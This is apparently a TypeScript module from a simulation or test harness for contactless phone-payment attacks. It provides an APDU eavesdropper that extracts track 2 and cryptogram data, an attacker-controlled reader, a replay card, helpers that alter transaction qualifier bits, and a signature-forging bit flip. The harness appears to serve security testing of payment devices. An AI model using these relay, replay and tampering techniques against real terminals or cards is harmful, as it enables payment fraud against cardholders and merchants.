/** The attacker's tools near the antenna: an ear, a reader of his own, and a card that can only repeat. */

import { fromHex, toHex } from '../network/bytes.js';
import { decodeTlv, findNode } from '../decode/decode.js';
import { readTlv } from '../decode/tlv.js';
import type { CardProxyRules } from '../host/rig/card-proxy.js';
import type { Rig } from '../host/rig/rig.js';
import type { Picc } from '../rf/picc.js';
import type { CardAnswer, TerminalData } from './bare-card.js';

export const GPO = 0xa8;
export const SELECT = 0xa4;
export const READ_RECORD = 0xb2;

export interface Exchange {
  readonly command: string;
  response: string;
}

/** Hears everything between phone and terminal. */
export class Ear {
  readonly exchanges: Exchange[] = [];
  readonly rules: CardProxyRules = {
    response: (rapdu, capdu) => {
      this.exchanges.push({ command: toHex(capdu), response: toHex(rapdu) });
      return rapdu;
    },
  };

  /** Value of a tag in the answers, hex. */
  ofCard(tag: number): string | undefined {
    for (const { response } of this.exchanges.toReversed()) {
      const data = fromHex(response.slice(0, -4));
      const node = findNode(decodeTlv(data, { showPan: true }).nodes, tag);
      if (node) return toHex(data.slice(node.valueOffset, node.valueOffset + node.valueLength));
    }
    return undefined;
  }

  /** What the terminal gave with GET PROCESSING OPTIONS, by the list that the card had asked with (9F38). */
  ofTerminal(): TerminalData {
    const gpo = this.exchanges.findLast(({ command }) => command.startsWith('80A8'))?.command ?? '';
    const asked = fromHex(this.ofCard(0x9f38) ?? '');
    const out: Record<string, string> = {};
    // 80 A8 00 00 Lc 83 length: the values begin behind them.
    let at = 14;
    for (let i = 0; i < asked.length; i++) {
      let tag = toHex(asked.subarray(i, i + 1));
      if ((asked[i]! & 0x1f) === 0x1f) tag += toHex(asked.subarray(++i, i + 1));
      const end = at + 2 * asked[++i]!;
      out[tag] = gpo.slice(at, end);
      at = end;
    }
    return out;
  }

  /** The card's answer as a terminal would take it. */
  answer(): CardAnswer {
    const tags: Record<string, string> = {};
    for (const tag of [0x9f26, 0x9f27, 0x9f10, 0x9f36, 0x82, 0x9f6c, 0x9f19, 0x9f24, 0x9f25]) {
      const value = this.ofCard(tag);
      if (value !== undefined) tags[tag.toString(16).toUpperCase()] = value;
    }
    return { track2: (this.ofCard(0x57) ?? '').replace(/F$/, '').slice(0, 37), tags };
  }
}

/** A reader of the attacker's own: the phone answers the commands that he heard, changed or not. */
export function askPhone(
  rig: Rig,
  phone: Picc,
  commands: readonly string[],
  change: (command: string) => string = (command) => command,
): Exchange[] {
  const out: Exchange[] = [];
  phone.powerUp();
  for (const heard of commands) {
    const exchange = { command: change(heard), response: '' };
    phone.receive(fromHex(exchange.command), (rapdu) => {
      exchange.response = toHex(rapdu);
    });
    rig.until(() => exchange.response !== '', 2_000_000);
    out.push(exchange);
  }
  phone.powerDown();
  return out;
}

/** A card that can only say what was heard before. */
export function recording(like: Picc, exchanges: readonly Exchange[]): Picc {
  const identity = like.powerUp();
  like.powerDown();
  return {
    name: 'recording',
    type: like.type,
    powerUp: () => identity,
    powerDown: () => undefined,
    receive(capdu, answer) {
      const known = exchanges.find((row) => row.command === toHex(capdu));
      answer(fromHex(known?.response ?? '6A82'));
    },
  };
}

/** Replaces in the hex of an APDU. */
export function edit(bytes: Uint8Array, what: RegExp, by: string): Uint8Array {
  return fromHex(toHex(bytes).replace(what, by));
}

/** Sets and clears bits of the terminal transaction qualifiers, the first thing that our phones ask for. */
export function withTtq(capdu: Uint8Array, byte: number, clear: number, set: number): Uint8Array {
  if (capdu[1] !== GPO) return capdu;
  const out = capdu.slice();
  const at = 7 + byte;
  out[at] = (out[at]! & ~clear) | set;
  return out;
}

/** Another card transaction qualifier (9F6C) in the answer to GET PROCESSING OPTIONS. */
export function withCtq(rapdu: Uint8Array, capdu: Uint8Array, ctq: string): Uint8Array {
  return capdu[1] === GPO ? edit(rapdu, /9F6C02..../, `9F6C02${ctq}`) : rapdu;
}

/** One bit of the signed dynamic data (9F4B): what a copy without the card's private key would send. */
export function withForgedSignature(rapdu: Uint8Array): Uint8Array {
  const piece = readTlv(rapdu, 0, rapdu.length - 2).pieces[0];
  if (piece?.tag !== 0x77) return rapdu;
  const node = findNode(decodeTlv(rapdu.subarray(0, -2)).nodes, 0x9f4b);
  if (!node) return rapdu;
  const out = rapdu.slice();
  out[node.valueOffset + 28]! ^= 0x01;
  return out;
}
